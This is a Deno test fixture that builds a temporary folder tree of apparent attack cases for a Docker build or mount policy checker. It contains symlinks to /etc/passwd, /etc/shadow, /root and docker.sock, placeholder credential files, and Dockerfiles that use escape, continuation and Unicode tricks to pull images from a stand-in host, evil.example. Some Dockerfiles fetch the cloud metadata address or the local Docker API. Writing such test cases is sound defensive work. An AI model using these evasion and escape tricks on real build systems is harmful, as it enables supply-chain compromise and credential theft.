/** The folders that cases name: a tree with links, in a temporary directory. */
export interface Folders extends AsyncDisposable {
  /** Replaces `{tree}` in every text of a value by the tree's path. */
  place<Value>(value: Value): Value;
}

/** Files with their text, and links (`-> target`). */
const TREE: Readonly<Record<string, string>> = {
  "ro/data/file": "x",
  "ro/data/deep/er/file": "x",
  "ro/with blank/file": "x",
  "ro/größe/file": "x",
  "ro/.well-known/file": "x",
  "ro/to_data": "-> data",
  "ro/to_etc": "-> /etc",
  "ro/to_passwd": "-> /etc/passwd",
  "ro/to_root": "-> /",
  "ro/to_home": "-> /root",
  "ro/to_proc": "-> /proc/1",
  "ro/to_socket": "-> /var/run/docker.sock",
  "ro/to_run": "-> /run",
  "ro/to_outside": "-> ../outside",
  "ro/to_rw": "-> ../rw",
  "ro/to_link": "-> to_etc",
  "ro/to_nowhere": "-> /etc/does-not-exist",
  "ro/.ssh/id_rsa": "x",
  "ro/.aws/credentials": "x",
  "ro/.docker/config.json": "{}",
  "ro/.kube/config": "x",
  "ro/.gnupg/trustdb": "x",
  "ro/.config/gcloud/x": "x",
  "ro/app/.ssh/known_hosts": "x",
  "ro/app/.netrc": "x",
  "ro/app/.npmrc": "x",
  "ro/app/id_ed25519": "x",
  "ro/run/docker.sock": "x",
  "rw/data/file": "x",
  "rw/to_outside": "-> ../outside",
  "outside/file": "x",
  "ro-evil/file": "x",
  "rw-evil/file": "x",
  "builds/shop/Dockerfile": "FROM busybox\nCOPY . /app\n",
  "builds/shop/docker/Dockerfile.dev": "FROM busybox\n",
  "builds/shop/app.txt": "the application",
  "builds/shop/.dockerignore": "secret\n",
  "builds/shop/secret": "PLANTED-IN-AN-IGNORED-FILE",
  "builds/shop/with blank/Dockerfile": "FROM busybox\n",
  "builds/args/Dockerfile": "ARG BASE=busybox\nFROM $BASE\n",
  "builds/stages/Dockerfile": "FROM busybox AS base\nFROM base\n",
  "builds/scratch/Dockerfile": "FROM scratch\n",
  "builds/linked/Dockerfile": "FROM busybox\n",
  "builds/linked/out": "-> ../../outside/file",
  "builds/linked/shadow": "-> /etc/shadow",
  "builds/linked/folder": "-> /root",
  "builds/linked/inside": "-> Dockerfile",
  "builds/link_file/Dockerfile": "-> ../../outside/Dockerfile",
  "builds/link_file/app": "x",
  "builds/link_ignore/Dockerfile": "FROM busybox\n",
  "builds/link_ignore/.dockerignore": "-> /etc/passwd",
  "builds/to_outside": "-> ../outside",
  "builds/to_root": "-> /",
  "builds/to_shop": "-> shop",
  "builds/foreign/Dockerfile": "FROM evil.example/base:1\n",
  "builds/foreign_stage/Dockerfile":
    "FROM busybox AS a\nFROM evil.example/base:1\nCOPY --from=a / /\n",
  "builds/foreign_copy/Dockerfile": "FROM busybox\nCOPY --from=evil.example/base:1 / /\n",
  "builds/foreign_small/Dockerfile": "from evil.example/base:1\n",
  "builds/foreign_platform/Dockerfile": "FROM --platform=linux/amd64 evil.example/base:1\n",
  "builds/foreign_continued/Dockerfile": "FROM \\\n  evil.example/base:1\n",
  "builds/foreign_escape/Dockerfile": "# escape=`\nFROM `\n evil.example/base:1\n",
  "builds/foreign_comment/Dockerfile": "FROM \\\n# busybox\n evil.example/base:1\n",
  "builds/foreign_default/Dockerfile": "ARG BASE=evil.example/base:1\nFROM ${BASE}\n",
  "builds/foreign_modifier/Dockerfile": "ARG BASE\nFROM ${BASE:-evil.example/base:1}\n",
  "builds/foreign_parts/Dockerfile": "ARG HOST=evil.example\nFROM $HOST/base:1\n",
  "builds/foreign_tabs/Dockerfile": "\tFROM\tevil.example/base:1\n",
  "builds/foreign_quoted/Dockerfile": 'ARG BASE="evil.example/base:1"\nFROM "$BASE"\n',
  "builds/foreign_mark/Dockerfile": "\ufeffFROM evil.example/base:1\n",
  "builds/foreign_lines/Dockerfile": "FROM busybox\r\nFROM evil.example/base:1\r\n",
  "builds/foreign_name/Dockerfile": "FROM busybox AS evil\nFROM evil.example/base:1 AS evil2\n",
  "builds/foreign_copy_stage/Dockerfile":
    "FROM busybox\nADD --from=evil.example/x:1 / /\nCOPY --chown=1 --from=evil.example/base:1 a b\n",
  "builds/foreign_nel/Dockerfile": "FROM busybox\n\u0085FROM evil.example/base:1\n",
  "builds/foreign_again/Dockerfile": 'ARG A=busybox\nARG "A"=evil.example/base:1\nFROM $A\n',
  "builds/foreign_indented/Dockerfile":
    " # escape=`\nFROM busybox\nRUN x \\\nFROM evil.example/base:1\n",
  "builds/foreign_option/Dockerfile":
    'FROM busybox\nCOPY --chown="0 " --from=evil.example/base:1 / /\n',
  "builds/foreign_json/Dockerfile": '\n{"synta\\u0078":"evil.example/frontend"}\n',
  "builds/foreign_frontend/Dockerfile": "# syntax=evil/frontend\nFROM busybox\n",
  "builds/listed_heredoc/Dockerfile":
    "# syntax=docker/dockerfile:1\nFROM busybox\nRUN <<EOF\nFROM evil.example/base:1\nEOF\n",
  "builds/download/Dockerfile": "FROM busybox\nADD http://169.254.169.254/latest /x\n",
  "builds/download_local/Dockerfile": "FROM busybox\nADD http://localhost:2375/info /x\n",
  "builds/download_argument/Dockerfile": "FROM busybox\nARG U\nADD $U /x\n",
  "builds/env/.env": "TOKEN=PLANTED-IN-A-NAMED-FILE\n",
  "builds/env/Dockerfile": "FROM busybox\n",
  "builds/patterns/Dockerfile": "FROM busybox\n",
  "builds/patterns/.dockerignore": "a*a\n".repeat(1001),
  "builds/listed/Dockerfile":
    "FROM registry.example:5000/base:1 AS base\nFROM base\nCOPY --from=base / /\nCOPY --from=0 / /\n",
  "builds/listed_text/Dockerfile":
    "FROM busybox\n# FROM evil.example/base:1\nRUN echo FROM evil.example/base:1 \\\n && echo --from=evil.example/x\n",
  "builds/metadata/Dockerfile": "FROM 169.254.169.254/base:1\n",
  "builds/missing/readme": "x",
  "outside/Dockerfile": "FROM busybox\n",
  "builds-evil/Dockerfile": "FROM busybox\n",
};

/** Makes the tree; dispose it. */
export async function makeFolders(): Promise<Folders> {
  // A path without links, so that what is under an allowed root stays there.
  const tree = await Deno.realPath(await Deno.makeTempDir({ prefix: "attacks-" }));
  for (const [path, text] of Object.entries(TREE)) {
    const full = `${tree}/${path}`;
    await Deno.mkdir(full.slice(0, full.lastIndexOf("/")), { recursive: true });
    if (text.startsWith("-> ")) await Deno.symlink(text.slice(3), full);
    else await Deno.writeTextFile(full, text);
  }
  return {
    place: (value) => placed(value, tree),
    [Symbol.asyncDispose]: () => Deno.remove(tree, { recursive: true }),
  };
}

function placed<Value>(value: Value, tree: string): Value {
  if (typeof value === "string") return value.replaceAll("{tree}", tree) as Value;
  if (Array.isArray(value)) return value.map((item) => placed(item, tree)) as Value;
  if (typeof value !== "object" || value === null) return value;
  if (Object.getPrototypeOf(value) !== Object.prototype) return value; // a RegExp, a Response
  const entries = Object.entries(value).map((
    [key, inner],
  ) => [placed(key, tree), placed(inner, tree)]);
  return Object.fromEntries(entries) as Value;
}
